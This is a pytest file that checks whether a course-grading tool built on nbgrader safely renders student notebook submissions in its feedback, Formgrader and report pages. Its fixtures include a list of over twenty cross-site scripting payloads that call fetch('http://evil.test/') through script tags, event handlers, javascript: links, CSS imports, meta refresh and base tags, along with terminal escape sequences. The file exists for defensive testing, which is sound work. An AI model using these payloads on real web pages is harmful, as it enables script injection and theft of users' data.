"""What a student writes, prints and shows is text in every page that an instructor or a student opens."""

import contextlib
import json
import shutil
from pathlib import Path

import nbformat
import pytest

from course.commands import harmless
from tests.browser.driver import browser, find_browser, needs_browser
from tests.course.grading.made_class import NAME, SOLUTION, as_bytes, notebook
from tests.reading import ROOT

class_run = pytest.importorskip("course.grading.class_run", reason="nbgrader is not installed.")
from nbconvert.exporters import HTMLExporter  # noqa: E402
from nbgrader.converters import Autograde  # noqa: E402
from nbgrader.converters.base import NbGraderException  # noqa: E402
from nbgrader.coursedir import CourseDirectory  # noqa: E402
from nbgrader.server_extensions.formgrader import handlers  # noqa: E402
from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension  # noqa: E402

from course.grading import pages  # noqa: E402
from course.grading.gradebook import load_config  # noqa: E402
from course.grading.sandbox import is_available  # noqa: E402

RUN = "window.reached = (window.reached || 0) + 1; fetch('http://evil.test/')"
IMG = f'<img src="http://evil.test/x" onerror="{RUN}">'
MARKUP = [
    f"<script>{RUN}</script>",
    IMG,
    f"[a link](javascript:{RUN})",
    f"[a link](JaVaScRiPt&colon;{RUN})",
    f"<javascript:{RUN}>",
    f"[a reference][r]\n\n[r]: javascript:{RUN}",
    "![a picture](http://evil.test/picture)",
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName="x"/></svg>',
    f'<iframe srcdoc="<script>parent.reached = 1</script>"></iframe><iframe src="javascript:{RUN}"></iframe>',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<input autofocus onfocus="{RUN}" id="why" class="score">',
    '<style>@import "http://evil.test/style"; * { background: url(http://evil.test/back) }</style>',
    '<link rel="stylesheet" href="http://evil.test/sheet"><meta http-equiv="refresh" content="0; url=http://evil.test/">',
    '<base href="http://evil.test/">',
    f'<object data="http://evil.test/"></object><embed src="http://evil.test/"><video><source onerror="{RUN}"></video>',
    f"</pre></div></textarea></title></style>{IMG}",
    f'``` html"><script>{RUN}</script>\nx\n```',
    f"# A heading {IMG}",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ \\\\( {IMG} \\\\)",
    f'<math><mtext></p><style><img src=x onerror="{RUN}"></style></mtext></math>',
    f'<form action="http://evil.test/" id="grade"><button formaction="javascript:{RUN}">x</button></form>',
    f"| a |\n|---|\n| {IMG} |",
]
# What a cell shows: each kind of output that a page knows.
SHOWS = f"""
from IPython.display import HTML, Javascript, Latex, Markdown, SVG, JSON, display, publish_display_data
markup, run = {MARKUP!r}, {RUN!r}
page = "".join(markup)
for kind in (HTML, Markdown, Latex):
    display(kind(page))
display(Javascript(run), SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>" + run + "</script></svg>"), JSON({{"a": page}}))
publish_display_data({{"text/html": page}}, metadata={{"text/html": {{"isolated": True}}}})
for kind in ("application/javascript", "text/vnd.mermaid", "application/vnd.jupyter.widget-view+json", "application/pdf", page):
    publish_display_data({{kind: page}})
publish_display_data({{"image/png": '"><script>' + run + "</script>", "text/plain": page}}, metadata={{"filenames": {{"image/png": '"' + page}}}})
publish_display_data({{"image/png": "iVBORw0KGgo=", "text/plain": page}}, metadata={{"image/png": {{"alt": '"' + page, "width": '1 onerror="' + run + '"'}}}})
publish_display_data({{"image/jpeg": '"><script>' + run + "</script>"}})
print(page, "\\x1b]0;title\\x07\\x1b[31m" + page)
import sys, warnings
warnings.warn(page)
print(page, file=sys.stderr)
class Odd(Exception): pass
Odd.__name__ = page
class Shown:
    def __repr__(self): return page
    def _repr_html_(self): return page
    def _repr_mimebundle_(self, **options): return {{"text/html": page, "text/plain": [page], page: page}}
display(Shown())
raise Odd(page)
"""
FAILS = f"def decode_section(section):\n    raise ValueError({''.join(MARKUP)!r})"


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A graded course: in Ana's submission there is a script in every place where one can be."""
    root = tmp_path_factory.mktemp("pages")
    shutil.copytree(SOLUTION.parent, root / "solutions" / NAME)
    shutil.copy(ROOT / "nbgrader_config.py", root)
    handed_in = notebook({"decode_section": FAILS, "why": "\n\n".join(MARKUP)})
    handed_in.cells[2:2] = [
        nbformat.v4.new_code_cell(SHOWS, metadata={"tags": [f'">{IMG}']}),
        nbformat.v4.new_markdown_cell("\n\n".join(MARKUP)),
        nbformat.v4.new_raw_cell("".join(MARKUP)),
        nbformat.v4.new_code_cell(f"%%html\n{''.join(MARKUP)}"),
        nbformat.v4.new_code_cell("import IPython\nIPython.display.update_display"),
    ]
    handed_in.metadata.title = handed_in.metadata.widgets = IMG
    for student in ('ana" onmouseover="alert(1)', f"eve {IMG}".replace("/", "_")):
        path = root / "submitted" / student / NAME / SOLUTION.name
        path.parent.mkdir(parents=True)
        path.write_bytes(as_bytes(handed_in))
    outcomes = class_run.grade("02", root, safe=is_available())
    assert [bool(outcome.damage) for outcome in outcomes] == [False, True]
    return root, outcomes


def formgrader_page(root: Path) -> str:
    """What the Formgrader shows, with the settings that its server finds in the course (SubmissionHandler of nbgrader)."""
    with contextlib.chdir(root):
        formgrader = FormgradeExtension()
        formgrader.root_dir = str(root)
        formgrader.initialize([])
    [path] = root.glob(f"autograded/*/{NAME}/*.ipynb")
    student = path.parent.parent.name
    resources = dict(
        assignment_id=NAME, notebook_id=SOLUTION.stem, submission_id="1", index=0, total=1, base_url="",
        student=student, last_name=None, first_name=None, notebook_path=f"autograded/{student}/{path.name}",
    )  # fmt: skip
    html, _ = HTMLExporter(config=formgrader.config).from_filename(str(path), resources=resources)
    return html


@needs_browser
def test_no_page_runs_a_script_of_a_submission(course):
    assert len(MARKUP) >= 20
    assert find_browser(), "CI must have a browser: install Chromium."
    root, _ = course
    [feedback] = root.glob(f"feedback/*/{NAME}/*.html")
    pages = {
        "/feedback": feedback.read_text(encoding="utf-8"),
        "/formgrader/submissions/1/": formgrader_page(root),
        "/report": (root / "grades" / NAME / "report.html").read_text(encoding="utf-8"),
    }
    asked, dialogs = [], []

    def answer(route):
        address = route.request.url.removeprefix("http://course.test")
        asked.append(route.request.url)
        file = Path(handlers.static_path, address.removeprefix("/formgrader/static/"))
        if address in pages:
            route.fulfill(content_type="text/html", body=pages[address])
        elif address.startswith("/formgrader/static/") and file.is_file():
            route.fulfill(path=file)
        else:
            route.fulfill(status=404, body="")

    with browser() as chromium:
        page = chromium.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.route("**/*", answer)
        for address, html in pages.items():
            assert "evil.test" in html, f"{address} shows nothing of what should be harmless"
            page.goto(f"http://course.test{address}")
            assert page.evaluate("window.reached") is None, address
            assert (
                page.locator(
                    "[href^='javascript:' i], [onerror], [onmouseover], iframe, base, object"
                ).count()
                == 0
            )
            assert page.locator("#why").count() <= 1, "a field of the page has a double"
            if address.startswith("/formgrader"):
                assert page.evaluate("typeof jQuery") == "function", "the page is not the real one"
    assert dialogs == []
    assert [address for address in asked if "evil.test" in address] == []


def test_the_table_and_the_terminal_get_no_control_characters(course):
    _, outcomes = course
    outcomes[1].damage += "\x1b]0;title\x07\x9b31m\u202eabc\r"
    said = harmless(class_run.describe(outcomes))
    assert all(letter == "\n" or letter.isprintable() for letter in said)
    assert "\\x1b]0;title" in said
    assert harmless("Zoë, 李, a b\nc") == "Zoë, 李, a b\nc"


def test_autograde_of_nbgrader_runs_nothing_and_leaves_what_is_there(course):
    root, _ = course
    [graded] = root.glob(f"autograded/*/{NAME}/*.ipynb")
    before = graded.read_bytes()
    student = graded.parent.parent.name
    here = CourseDirectory(config=load_config(root), student_id=student, assignment_id=NAME)
    for force in (True, False):
        step = Autograde(coursedir=here, config=load_config(root))
        step.force = force
        with pytest.raises(NbGraderException, match="course grade"):
            step.start()
    assert graded.read_bytes() == before


def test_the_text_of_an_answer_is_kept_as_it_was_written(course):
    root, _ = course
    [graded] = root.glob(f"autograded/*/{NAME}/*.ipynb")
    cells = {cell["id"]: cell for cell in json.loads(graded.read_text(encoding="utf-8"))["cells"]}
    assert "".join(cells["why"]["source"]) == "\n\n".join(MARKUP)
    kinds = {
        key
        for cell in cells.values()
        for output in cell.get("outputs", [])
        for key in output.get("data", {})
    }
    assert kinds == {"text/plain", "image/png"}


def test_a_long_answer_is_not_parsed(monkeypatch):
    """Markdown of 200 KB took 90 seconds. The text that the exercise or the instructor wrote is short."""
    monkeypatch.setattr(pages, "markdown2html", lambda source: "parsed")
    monkeypatch.setattr(pages, "highlight", lambda source, *options: "coloured")
    answer = notebook({"why": "[" * 200_000 + "<b>"}).cells
    why = next(cell for cell in answer if cell.id == "why")
    assert pages.words({"cell": why}, why.source).endswith("[&lt;b&gt;</pre>")
    assert pages.words({"cell": why}, "A comment of the instructor.") == "parsed"
    assert pages.words({"cell": answer[0]}, answer[0].source) == "parsed"
    assert pages.code("x = 1") == "coloured"
    assert pages.code("x" * 60_000 + "<b>").endswith("&lt;b&gt;</pre>")


def test_the_report_names_the_guards(course):
    root, outcomes = course
    report = (root / "grades" / NAME / "report.html").read_text(encoding="utf-8")
    assert is_available() == ("namespaces, filter of system calls" in report)
    assert outcomes[0].guards in report
